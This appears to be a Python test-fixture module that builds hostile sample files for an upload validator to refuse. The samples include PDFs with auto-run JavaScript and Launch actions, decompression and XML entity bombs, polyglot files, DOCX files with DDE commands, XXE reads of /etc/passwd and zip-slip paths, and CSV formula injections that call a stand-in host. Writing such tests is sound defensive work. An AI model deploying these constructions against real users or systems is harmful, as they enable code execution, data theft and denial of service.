"""Files that mean harm to whoever opens them as a proof: PDFs that run, floods, bombs, doubles."""

from __future__ import annotations

import io
import re
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from tests.faults.hostile_workbooks import doctype, lying, with_parts
from tests.papers import LETTER, TYPES, W, small_docx, small_pdf, small_picture, small_xlsx
from tests.zips import packed

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@dataclass(frozen=True)
class Sample:
    """A file under the name it comes by; one that need not be refused can do no harm."""

    name: str
    content: bytes
    is_refused: bool = True


def samples() -> list[Sample]:
    return [*active_pdfs(), *broken_pdfs(), *pictures(), *doubles(), *letters(), *others()]


# ---- PDFs that do something ----


def opening(**action: object) -> Callable[[Pdf], None]:
    """The action runs when the paper is opened."""

    def edit(pdf: Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(Dictionary(**action))

    return edit


def linked(**action: object) -> Callable[[Pdf], None]:
    """The action runs when somebody clicks."""

    def edit(pdf: Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9],
                          A=Dictionary(**action))  # fmt: skip
        pdf.pages[0].Annots = Array([pdf.make_indirect(link)])

    return edit


def annotated(**annotation: object) -> Callable[[Pdf], None]:
    def edit(pdf: Pdf) -> None:
        told = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **annotation)
        pdf.pages[0].Annots = Array([pdf.make_indirect(told)])

    return edit


def rooted(**more: object) -> Callable[[Pdf], None]:
    def edit(pdf: Pdf) -> None:
        for key, value in more.items():
            pdf.Root[f"/{key}"] = value

    return edit


def attached(pdf: Pdf) -> None:
    pdf.attachments["jahat.exe"] = b"MZ"


def named_script(pdf: Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=[String("a"), script]))


def script_in_stream(pdf: Pdf) -> None:
    stream = pdf.make_stream(b"app.alert(1)")
    pdf.Root["/Lain"] = Dictionary(S=Name.JavaScript, JS=stream)


def loose_script(pdf: Pdf) -> None:
    """Reached by nothing but a reader that tries every object."""
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root["/Lain"] = Array([script])


def page_reaction(pdf: Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.Print))


def outside_stream(pdf: Pdf) -> None:
    stream = pdf.make_stream(b"")
    stream["/F"] = Dictionary(Type=Name.Filespec, F=String("\\\\server\\bagi\\isi"))
    pdf.Root["/Lain"] = stream


def reference(pdf: Pdf) -> None:
    stream = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form)
    stream["/Ref"] = Dictionary(F=String("http://jahat.test/a.pdf"), Page=0)
    pdf.Root["/Lain"] = stream


def chained(pdf: Pdf) -> None:
    first = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))
    first.Next = Dictionary(S=Name.URI, URI=String("http://jahat.test"))
    pdf.Root.OpenAction = first


def spelled_otherwise() -> bytes:
    """The name of the script is written with a code for one of its letters."""
    plain = small_pdf("x", linked(S=Name.JavaScript, JS=String("app.alert(1)")))
    return plain.replace(b"/JavaScript", b"/J#61vaScript")


def packed_away() -> bytes:
    """Every object in a compressed stream: none of its words can be read from outside."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    linked(S=Name.JavaScript, JS=String("app.alert(1)"))(pdf)
    written = io.BytesIO()
    pdf.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in written.getvalue()
    return written.getvalue()


def changed_later() -> bytes:
    """A harmless paper to which a later revision appends what runs."""
    plain = small_pdf()
    root = re.search(rb"(\d+) 0 obj\s*<<[^>]*/Pages (\d+) 0 R[^>]*/Type /Catalog", plain)
    assert root is not None
    number, pages = int(root[1]), int(root[2])
    at = len(plain)
    action = "/Lain<</S/JavaScript/JS(app.alert\\(1\\))>>"
    body = f"{number} 0 obj\n<</Type/Catalog/Pages {pages} 0 R{action}>>\nendobj\n"
    last = plain[plain.rindex(b"startxref") :].split()[1].decode()
    table = f"xref\n{number} 1\n{at:010} 00000 n \n"
    end = (
        f"trailer\n<</Size 99/Root {number} 0 R/Prev {last}>>\nstartxref\n{at + len(body)}\n%%EOF\n"
    )
    return plain + (body + table + end).encode()


def active_pdfs() -> Iterator[Sample]:
    edits: dict[str, Callable[[Pdf], None]] = {
        "open-javascript": opening(S=Name.JavaScript, JS=String("app.alert(1)")),
        "open-launch": opening(S=Name.Launch, F=String("cmd.exe")),
        "open-uri": opening(S=Name.URI, URI=String("http://jahat.test")),
        "open-print": opening(S=Name.Named, N=Name.Print),
        "open-goto-then-uri": chained,
        "javascript-by-name": named_script,
        "javascript-in-a-stream": script_in_stream,
        "javascript-nobody-reaches": loose_script,
        "javascript-of-a-page": page_reaction,
        "click-javascript": linked(S=Name.JavaScript, JS=String("1")),
        "click-launch": linked(S=Name.Launch, Win=Dictionary(F=String("calc.exe"))),
        "click-submit": linked(S=Name.SubmitForm, F=String("http://jahat.test")),
        "click-import": linked(S=Name.ImportData, F=String("a.fdf")),
        "click-other-file": linked(S=Name.GoToR, F=String("\\\\server\\a.pdf")),
        "click-inner-file": linked(S=Name.GoToE, T=Dictionary(R=Name.C)),
        "click-javascript-uri": linked(S=Name.URI, URI=String("javascript:alert(1)")),
        "click-file-uri": linked(S=Name.URI, URI=String("file:///etc/passwd")),
        "click-share": linked(S=Name.URI, URI=String("\\\\server\\bagi")),
        "attachment": attached,
        "attachment-on-a-page": annotated(Subtype=Name.FileAttachment),
        "rich-media": annotated(Subtype=Name.RichMedia),
        "film": annotated(Subtype=Name.Movie),
        "sound": annotated(Subtype=Name.Sound),
        "screen": annotated(Subtype=Name.Screen),
        "three-dimensions": annotated(Subtype=Name("/3D")),
        "xfa": rooted(AcroForm=Dictionary(Fields=[], XFA=Array([String("a"), String("<x/>")]))),
        "stream-of-elsewhere": outside_stream,
        "page-of-elsewhere": reference,
        "rendition": opening(S=Name.Rendition, JS=String("1")),
    }
    for name, edit in edits.items():
        yield Sample(f"{name}.pdf", small_pdf(name, edit))
    yield Sample("javascript-spelled-otherwise.pdf", spelled_otherwise())
    yield Sample("javascript-packed-away.pdf", packed_away())
    yield Sample("javascript-appended.pdf", changed_later())
    yield Sample("plain-link.pdf", small_pdf("l", linked(
        S=Name.URI, URI=String("https://www.bps.go.id"))), is_refused=False)  # fmt: skip


# ---- PDFs that are locked, broken or endless ----


def locked(user: str) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    written = io.BytesIO()
    pdf.save(written, encryption=pikepdf.Encryption(user=user, owner="pemilik"))
    return written.getvalue()


def deep() -> bytes:
    """Arrays in arrays, a hundred thousand deep."""
    hole = b"[" * 100_000 + b"]" * 100_000
    return small_pdf().replace(b"/Type /Catalog", b"/Type /Catalog /Lain " + hole)


def object_bomb() -> bytes:
    """A stream of objects that unpacks to 700 MB."""
    packer = zlib.compressobj(9)
    squeezed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(700)) + packer.flush()
    head = b"%PDF-1.5\n"
    first = b"1 0 obj\n<</Type/Catalog/Pages 3 0 R>>\nendobj\n"
    second = (
        b"2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(squeezed)).encode() + b">>\nstream\n" + squeezed + b"\nendstream\nendobj\n"
    )  # fmt: skip
    at = len(head) + len(first) + len(second)
    rows = [(0, 0, 255), (1, len(head), 0), (1, len(head) + len(first), 0), (2, 2, 0), (1, at, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    xref = (
        b"4 0 obj\n<</Type/XRef/Size 5/W[1 4 1]/Root 1 0 R/Length "
        + str(len(table)).encode() + b">>\nstream\n" + table + b"\nendstream\nendobj\n"
    )  # fmt: skip
    return head + first + second + xref + f"startxref\n{at}\n%%EOF\n".encode()


def in_a_ring() -> bytes:
    """The tree of pages is its own child."""

    def edit(pdf: Pdf) -> None:
        pdf.Root.Pages.Kids = Array([pdf.Root.Pages])

    return small_pdf("ring", edit)


def without_pages(pdf: Pdf) -> None:
    del pdf.pages[0]


def broken_pdfs() -> Iterator[Sample]:
    yield Sample("locked.pdf", locked("rahasia"))
    yield Sample("locked-for-changes.pdf", locked(""))
    yield Sample("cut.pdf", small_pdf()[:-200])
    yield Sample("head-alone.pdf", b"%PDF-1.7\n%%EOF\n")
    yield Sample("noise.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"%%EOF\n")
    yield Sample("no-page.pdf", small_pdf("x", without_pages))
    yield Sample("deep.pdf", deep())
    yield Sample("object-bomb.pdf", object_bomb())
    yield Sample("ring.pdf", in_a_ring())
    yield Sample("html.pdf", b"<!doctype html><script>alert(1)</script>")
    yield Sample("program.pdf", b"MZ\x90\0" + bytes(500))


# ---- pictures ----


def chunk(kind: bytes, content: bytes) -> bytes:
    sum_of = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", sum_of)


def png(width: int, height: int, *more: bytes, data: bytes = b"", depth: int = 8) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 2, 0, 0, 0))
    body = chunk(b"IDAT", data or zlib.compress(b"\0" * 1_000))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + body + chunk(b"IEND", b"")


def flooded(width: int, height: int) -> bytes:
    """All its pixels are really there, squeezed."""
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + 3 * width)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return png(width, height, data=data)


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose head claims to be large."""
    content = bytearray(small_picture("JPEG"))
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def comment(content: bytes, text: bytes) -> bytes:
    """A JPEG with a comment right after its start."""
    return content[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + content[2:]


def pictures() -> Iterator[Sample]:
    text_bomb = chunk(b"zTXt", b"a\0\0" + zlib.compress(b"x" * (80 << 20), 9))
    yield Sample("flood-claimed.png", png(60_000, 60_000))
    yield Sample("flood-claimed.jpg", jpeg_claiming(65_500, 65_500))
    yield Sample("flood-real.png", flooded(9_000, 6_000))
    yield Sample("flood-high.png", png(1, 2_000_000_000))
    yield Sample("no-size.png", png(0, 0))
    yield Sample("just-too-large.png", flooded(10_000, 5_001))
    yield Sample("just-fits.png", flooded(10_000, 5_000), is_refused=False)
    yield Sample("text-bomb.png", png(8, 8, text_bomb))
    yield Sample("cut.png", small_picture()[:60])
    yield Sample("cut.jpg", small_picture("JPEG", (400, 300))[:700])
    yield Sample("noise.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 20)
    yield Sample("noise.png", b"\x89PNG\r\n\x1a\n" + bytes(500))
    yield Sample(
        "page-in-comment.jpg", comment(small_picture("JPEG"), b"<script>alert(1)</script>")
    )
    yield Sample("php-in-comment.jpg", comment(small_picture("JPEG"), b"<?php system(1);"))
    yield Sample("moving.gif", small_picture("GIF"))
    yield Sample("drawing.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")


# ---- one file, two papers ----


def doubles() -> Iterator[Sample]:
    jpeg = small_picture("JPEG")
    yield Sample("pdf-and-zip.pdf", small_pdf() + small_xlsx())
    yield Sample("pdf-and-page.pdf", small_pdf() + b"<html><script>alert(1)</script>")
    yield Sample("jpeg-and-page.jpg", jpeg + b"<html><script>alert(1)</script>")
    yield Sample("jpeg-and-zip.jpg", jpeg + small_xlsx())
    yield Sample("jpeg-and-pdf.jpg", jpeg + small_pdf())
    yield Sample("png-and-program.png", small_picture() + b"MZ\x90\0")
    yield Sample("page-and-pdf.pdf", b"<html>" + small_pdf())
    yield Sample("zip-and-pdf.xlsx", small_xlsx() + small_pdf())
    yield Sample("pdf-and-xlsx.xlsx", small_pdf() + small_xlsx())


# ---- letters and workbooks ----


def related(kind: str, target: str, *, mode: str = "External", part: str = "document") -> bytes:
    """A letter with a relationship to somewhere else."""
    told = f'<Relationship Id="r1" Type="{RELS}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return small_docx(
        (f"word/_rels/{part}.xml.rels", f"<Relationships>{told}</Relationships>".encode())
    )


def with_code(*pieces: bytes) -> bytes:
    """A letter with a field code in as many pieces."""
    runs = b"".join(b"<w:r><w:instrText>" + one + b"</w:instrText></w:r>" for one in pieces)
    return small_docx(
        document=b"<w:document " + W + b"><w:body><w:p>" + runs + b"</w:p></w:body></w:document>"
    )


def hidden_letters() -> Iterator[Sample]:
    """The letter that is opened is another part than the one that is looked for by its name."""
    code = b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    letter = b"<w:document " + W + b"><w:body>" + code + b"</w:body></w:document>"
    for name in ("word/isi.foo", "word/document.dat", "isi/document.xml", "isi"):
        yield Sample(f"dde-in {name}.docx".replace("/", "_"), small_docx((name, letter)))
    before = b"\xef\xbb\xbf" + b" \r\n" * 40_000
    yield Sample("dde-behind-blanks.docx", small_docx(("word/isi.foo", before + letter)))
    declared = doctype(b'<!ENTITY a "x">')(b"<?xml version='1.0'?>" + letter)
    yield Sample("doctype-in-foo.docx", small_docx(("word/isi.foo", declared)))
    yield Sample("doctype-behind-blanks.docx", small_docx(
        ("word/isi.foo", before + b"<!DOCTYPE a><a/>")))  # fmt: skip
    for encoding in ("utf-16", "utf-16-be", "utf-16-le", "utf-32"):
        wide = letter.decode().encode(encoding)
        yield Sample(f"dde-in-{encoding}.docx", small_docx(("word/isi.foo", wide)))
    for kind in ("externalLink", "vbaProject", "oleObject"):
        yield Sample(f"{kind}-by-another-name.docx", related(kind, "isi.foo", mode="Internal"))


def flagged(content: bytes) -> bytes:
    """Every entry claims to be locked."""
    made, at = bytearray(content), 0
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := made.find(mark, at)) >= 0:
            made[at + place] |= 1
            at += 4
    return bytes(made)


def with_symbolic_link() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", LETTER)
        entry = zipfile.ZipInfo("word/media/gambar.png")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, "/etc/passwd")
    return written.getvalue()


def letters() -> Iterator[Sample]:
    yield Sample("template-of-elsewhere.docx", related(
        "attachedTemplate", "http://jahat.test/a.dotm", part="settings"))  # fmt: skip
    yield Sample("object-of-elsewhere.docx", related("oleObject", "mhtml:http://jahat.test!x"))
    yield Sample("picture-of-elsewhere.docx", related("image", "http://jahat.test/a.png"))
    yield Sample("frame-of-elsewhere.docx", related("frame", "http://jahat.test"))
    yield Sample("mode-spelled-otherwise.docx", related(
        "image", "http://jahat.test", mode="&#69;xternal"))  # fmt: skip
    yield Sample("strange-scheme.docx", related("hyperlink", "ms-msdt:/id PCWDiagnostic"))
    yield Sample("plain-link.docx", related("hyperlink", "https://bps.go.id"), is_refused=False)
    yield Sample("dde.docx", with_code(b'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))
    yield Sample("dde-in-pieces.docx", with_code(b"DD", b"EAU", b"TO cmd"))
    yield Sample("include.docx", with_code(b'INCLUDEPICTURE "http://jahat.test/a.png"'))
    yield from hidden_letters()
    yield Sample("page-number.docx", with_code(b"PAGE"), is_refused=False)
    yield Sample("macro.docx", small_docx(("word/vbaProject.bin", b"x")))
    typed = ("[Content_Types].xml", TYPES + b"<!-- macroEnabled -->")
    yield Sample("macro-by-type.docx", packed(typed, ("word/document.xml", LETTER)))
    yield Sample("control.docx", small_docx(("word/activeX/activeX1.bin", b"x")))
    yield Sample("inner-object.docx", small_docx(("word/embeddings/oleObject1.bin", b"x")))
    yield Sample("inner-archive.docx", small_docx(("word/embeddings/a.xlsx", small_xlsx())))
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 9) for n in range(1, 9))
    yield Sample("laughs.docx", small_docx(document=doctype(b'<!ENTITY l0 "ha">' + laughs)(
        b"<?xml version='1.0'?>" + LETTER)))  # fmt: skip
    entity = doctype(b'<!ENTITY f SYSTEM "file:///etc/passwd">')
    read = entity(b"<?xml version='1.0'?>" + LETTER)
    yield Sample("entity-of-a-file.docx", small_docx(document=read))
    yield Sample("doctype-in-utf-16.docx", small_docx(
        document=("<!DOCTYPE x>" + LETTER.decode()).encode("utf-16")))  # fmt: skip
    yield Sample("bomb.docx", small_docx(("word/media/a.bin", bytes(49 << 20))))
    yield Sample("bomb-in-two.docx", small_docx(
        ("word/media/a.bin", bytes(40 << 20)), ("word/media/b.bin", bytes(40 << 20))))  # fmt: skip
    yield Sample("bomb-that-lies.docx", lying(
        small_docx(("word/media/a.bin", bytes(70 << 20))), claimed=10))  # fmt: skip
    yield Sample("2001-parts.docx", small_docx(*((f"word/{n}.xml", b"") for n in range(1_999))))
    yield Sample("60000-parts.docx", packed(
        *((f"{n}", b"") for n in range(60_000)), method=zipfile.ZIP_STORED))  # fmt: skip
    for path in ("../../etc/cron.d/a", "/etc/passwd", "..\\..\\a", "C:/a", "word/../../a"):
        yield Sample(f"path {path}".replace("/", "_") + ".docx", small_docx((path, b"x")))
    yield Sample("symbolic-link.docx", with_symbolic_link())
    yield Sample("twice-in-two-cases.docx", small_docx(("WORD/DOCUMENT.XML", LETTER)))
    yield Sample("locked.docx", flagged(small_docx()))
    yield Sample("cut.docx", small_docx()[:200])
    yield Sample("relations-unclosed.docx", small_docx(
        ("word/_rels/document.xml.rels", b"<Relationships>")))  # fmt: skip
    yield Sample("macro.xlsx", with_parts(("xl/vbaProject.bin", b"x")))
    yield Sample("other-workbook.xlsx", with_parts(("xl/externalLinks/externalLink1.xml", b"<x/>")))
    yield Sample("two-cells-XFD1048576.xlsx", with_parts(edits={
        "xl/worksheets/sheet1.xml": lambda xml: xml.replace(
            b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
    }), is_refused=False)  # fmt: skip
    yield Sample("xls-by-name.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))


# ---- the rest ----


def others() -> Iterator[Sample]:
    yield Sample("empty.pdf", b"")
    yield Sample("arsip.zip", packed(("catatan.txt", b"halo")))
    yield Sample("program.exe", b"MZ\x90\0" + bytes(300))
    yield Sample("skrip.csv", b"<script>alert(1)</script>,1\n")
    yield Sample("rumus.csv", b'a,b\n=HYPERLINK("http://jahat.test?"&A1),1\n')
    yield Sample("perintah.csv", b"a,b\n@SUM(1)*cmd|' /C calc'!A0,1\n")
    yield Sample(
        "rumus-panjang.csv", b'a,b\n1,="' + b"a" * 220 + b'"&WEBSERVICE("http://jahat.test")\n'
    )
    yield Sample("perintah-panjang.csv", b"a,b\n1,+1" + b"+1" * 60 + b"+cmd|' /C calc'!A0\n")
    yield Sample("rumus-terpotong.csv", b"a;b\n" + b"x" * ((1 << 20) - 11) + b";=WEBSERVICE(A1)\n")
    yield Sample("pemisah-sendiri.csv", b"sep=|\n1|=cmd|' /C calc'!A0,2\n")
    yield Sample("banyak-rumus.csv", b"a,b\n" + b",=" * (1 << 20))
    yield Sample("banyak-tanda.csv", b"a,b\n" + b",-" * (2 << 20), is_refused=False)
    yield Sample("biner.csv", b"a,b\n" * 20_000 + b"\0\1\2")
    yield Sample(f"{'n' * 5_000}.pdf", b"MZ")
    yield Sample("a\u202efdp.exe", b"MZ\x90\0")
